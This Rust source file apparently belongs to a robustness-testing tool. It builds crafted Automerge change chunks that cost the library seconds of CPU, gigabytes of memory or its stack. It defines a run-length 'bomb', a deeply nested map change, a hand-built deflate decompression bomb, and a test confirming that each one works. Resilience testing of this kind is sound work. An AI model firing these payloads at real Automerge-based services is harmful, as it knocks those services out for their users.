//! Small changes that cost Automerge seconds, gigabytes or its stack.

use super::chunk::{Chunk, Column, checksum, number, run, seal_compressed, signed};

/// Actions by Automerge's numbers.
const MAKE_MAP: u8 = 0;
const SET: u8 = 1;

/// A text value: its type in the low bits, its length above.
const TEXT: u64 = 6;

/// Writes `operations` operations that each set the same name of the root, in about a hundred
/// bytes: a million take Automerge seconds.
pub fn run_length_bomb(actor: [u8; 16], operations: u64) -> Vec<u8> {
    let mut falses = Vec::new();
    number(&mut falses, operations);
    Chunk::new(actor)
        .with_columns(vec![
            (Column::KeyName, run(operations, &[1, b'k'])),
            (Column::Insert, falses),
            (Column::Action, run(operations, &[SET])),
            (Column::ValueKind, run(operations, &[0])),
            (Column::Predecessors, run(operations, &[0])),
        ])
        .to_bytes()
}

/// Writes a change that nests `depth` maps in one another, under the root: Automerge walks them
/// by recursion. `depth` must be at least three.
pub fn nested_maps(actor: [u8; 16], depth: u64) -> Vec<u8> {
    let mut falses = Vec::new();
    number(&mut falses, depth);
    // The first map stands in the root, each other in the one before it.
    let inner = depth.saturating_sub(1);
    let mut object_actor = vec![0, 1];
    object_actor.extend(run(inner, &[0]));
    let mut object_counter = vec![0, 1];
    object_counter.extend(signed(-inner.cast_signed()));
    for counter in 1..=inner {
        number(&mut object_counter, counter);
    }
    Chunk::new(actor)
        .with_columns(vec![
            (Column::ObjectActor, object_actor),
            (Column::ObjectCounter, object_counter),
            (Column::KeyName, run(depth, &[1, b'm'])),
            (Column::Insert, falses),
            (Column::Action, run(depth, &[MAKE_MAP])),
            (Column::ValueKind, run(depth, &[0])),
            (Column::Predecessors, run(depth, &[0])),
        ])
        .to_bytes()
}

/// Writes a compressed chunk that Automerge inflates to a valid change with one text of
/// `inflated_bytes` zero characters. It is about a hundred and sixty times smaller.
pub fn compressed_bomb(actor: [u8; 16], inflated_bytes: usize) -> Vec<u8> {
    let mut kind = Vec::new();
    number(&mut kind, ((inflated_bytes as u64) << 4) | TEXT);
    let mut value_kind = vec![0x7f];
    value_kind.extend(kind);
    let chunk = Chunk::new(actor).with_columns(vec![
        (Column::KeyName, vec![0x7f, 1, b'k']),
        (Column::Insert, vec![1]),
        (Column::Action, vec![0x7f, SET]),
        (Column::ValueKind, value_kind),
        (Column::Value, vec![0; inflated_bytes]),
        (Column::Predecessors, vec![0x7f, 0]),
    ]);
    let content = chunk.content();
    let mut hashed = vec![1];
    number(&mut hashed, content.len() as u64);
    hashed.extend_from_slice(&content);
    seal_compressed(&deflate(&content), checksum(&hashed))
}

/// Compresses runs of zeros with the fixed codes of RFC 1951, section 3.2.6.
fn deflate(content: &[u8]) -> Vec<u8> {
    const LONGEST: usize = 258;
    let mut out = Bits::default();
    // The last block, with fixed codes.
    out.low_first(0b011, 3);
    let mut rest = content;
    let mut after_zero = false;
    while let Some((first, after)) = rest.split_first() {
        let zeros = rest
            .iter()
            .take(LONGEST)
            .take_while(|byte| **byte == 0)
            .count();
        if after_zero && zeros == LONGEST {
            // Length 258, then distance 1.
            out.high_first(0b1100_0101, 8);
            out.high_first(0, 5);
            rest = rest.split_at(LONGEST).1;
            continue;
        }
        match first {
            0..=143 => out.high_first(0x30 + u32::from(*first), 8),
            144..=255 => out.high_first(0x190 + u32::from(*first) - 144, 9),
        }
        after_zero = *first == 0;
        rest = after;
    }
    // The end of the block.
    out.high_first(0, 7);
    out.finish()
}

#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    current: u8,
    used: u32,
}

impl Bits {
    fn push(&mut self, bit: bool) {
        self.current |= u8::from(bit) << self.used;
        self.used += 1;
        if self.used == 8 {
            self.bytes.push(self.current);
            self.current = 0;
            self.used = 0;
        }
    }

    fn low_first(&mut self, value: u32, count: u32) {
        for at in 0..count {
            self.push((value >> at) & 1 == 1);
        }
    }

    fn high_first(&mut self, value: u32, count: u32) {
        for at in (0..count).rev() {
            self.push((value >> at) & 1 == 1);
        }
    }

    fn finish(mut self) -> Vec<u8> {
        if self.used > 0 {
            self.bytes.push(self.current);
        }
        self.bytes
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn each_bomb_goes_off_in_automerge() {
        // Smaller ones, so that this test is quick; Automerge takes them all.
        let compressed = compressed_bomb([1; 16], 1 << 20);
        assert!(compressed.len() < 8 * 1024);
        let change = automerge::Change::from_bytes(compressed).unwrap();
        assert!(change.raw_bytes().len() > 1 << 20);

        let run = run_length_bomb([1; 16], 10_000);
        assert!(run.len() < 113);
        assert_eq!(automerge::Change::from_bytes(run).unwrap().len(), 10_000);

        let nested = nested_maps([1; 16], 100);
        let mut document = automerge::Automerge::new();
        document
            .apply_changes([automerge::Change::from_bytes(nested).unwrap()])
            .unwrap();
        assert_eq!(document.get_heads().len(), 1);
    }
}
